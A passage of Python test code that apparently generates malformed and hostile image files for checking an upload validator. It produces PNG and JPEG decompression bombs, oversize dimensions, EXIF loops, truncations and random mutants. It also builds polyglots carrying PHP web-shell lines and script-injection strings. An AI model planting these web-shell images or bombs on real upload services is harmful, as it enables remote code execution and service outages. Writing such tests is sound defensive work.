    )
    yield (
        "bom-mau.png",
        png(10, 10, packed=row, more=chunk(b"iCCP", b"a\x00\x00" + packed_zeros(400))),
    )
    yield (
        "bom-nhieu-chu.png",
        png(10, 10, packed=row, more=chunk(b"zTXt", b"a\x00\x00" + packed_zeros(1)) * 200),
    )
    yield "bom-diem.png", png(10, 10, packed=packed_zeros(800))
    yield "it-diem.png", png(1000, 1000, packed=row)
    yield (
        "khong-diem.png",
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">LLBBBBB", 9, 9, 8, 0, 0, 0, 0))
        + chunk(b"IEND", b""),
    )
    yield "khong-dau.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", row) + chunk(b"IEND", b"")
    for depth, colour in ((8, 3), (16, 3), (7, 0), (8, 9), (1, 2)):
        yield f"kieu-{depth}-{colour}.png", png(10, 10, packed=row, depth=depth, colour=colour)
    good = good_png()
    yield "sai-tong.png", good[:29] + b"\x00\x00\x00\x00" + good[33:]
    yield "sau-zip.png", good + good_docx()
    yield "sau-html.png", good + b"<script>alert(1)</script>"
    yield (
        "chu-html.png",
        png(10, 10, packed=row, more=chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
    )
    yield "apng.png", png(10, 10, packed=row, more=chunk(b"acTL", struct.pack(">LL", 2**31 - 1, 0)))
    yield "dai.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 2**31 - 1) + b"IHDR" + bytes(100)
    for part in range(1, 7):
        yield f"cut-{part}.png", good[: len(good) * part // 7]


def _jpegs() -> Iterator[Named]:
    good = good_jpeg()
    at = good.index(b"\xff\xc0") + 5
    for height, width in ((65535, 65535), (65500, 60000), (0, 60), (40, 0), (8000, 8000)):
        yield (
            f"lon-{width}x{height}.jpg",
            good[:at] + struct.pack(">HH", height, width) + good[at + 4 :],
        )
    yield (
        "chu-thich.jpg",
        good[:2] + b"\xff\xfe" + struct.pack(">H", 30) + b"<?php system($_GET[0]); ?>.." + good[2:],
    )
    yield (
        "html.jpg",
        good[:2] + b"\xff\xfe" + struct.pack(">H", 30) + b"<html><script>1</script>...." + good[2:],
    )
    yield "sau-zip.jpg", good + good_docx()
    yield "sau-php.jpg", good + b"<?php system($_GET['c']); ?>"
    exif = b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + struct.pack("<H", 65535)
    yield "exif-hong.jpg", good_jpeg(exif=exif + b"\xff" * 500)
    loop = b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00\x08\x00\x00\x00"
    yield "exif-vong.jpg", good_jpeg(exif=loop)
    yield (
        "exif-lon.jpg",
        good_jpeg(exif=b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x00\x00" + bytes(65_000)),
    )
    yield "gif-gia.jpg", b"\xff\xd8\xff" + b"GIF89a" * 100
    yield "hai-dau.jpg", good[:at] + good[at:].replace(b"\xff\xda", b"\xff\xc0\xff\xda", 1)
    yield "khong-bang.jpg", good.replace(b"\xff\xdb", b"\xff\xfe")
    yield "khong-duoi.jpg", good[:-2]
    yield "nhieu-quet.jpg", good[:-2] + good[good.index(b"\xff\xda") : -2] * 300 + b"\xff\xd9"
    for part in range(1, 7):
        yield f"cut-{part}.jpg", good[: len(good) * part // 7]


# ---- good files with bytes changed


def _mutants() -> Iterator[Named]:
    chance = random.Random(20260101)
    for ending, good in (
        ("pdf", good_pdf()),
        ("docx", good_docx()),
        ("xlsx", good_xlsx()),
        ("png", good_png()),
        ("jpg", good_jpeg()),
    ):
        for number in range(10):
            content = bytearray(good)
            for _ in range(chance.choice((1, 1, 3, 20, 200))):
                content[chance.randrange(8, len(content))] = chance.randrange(256)
            if number % 4 == 3:
                start = chance.randrange(8, len(content) - 8)
                del content[start : start + chance.randrange(1, 60)]
            yield f"doi-{number}.{ending}", bytes(content)
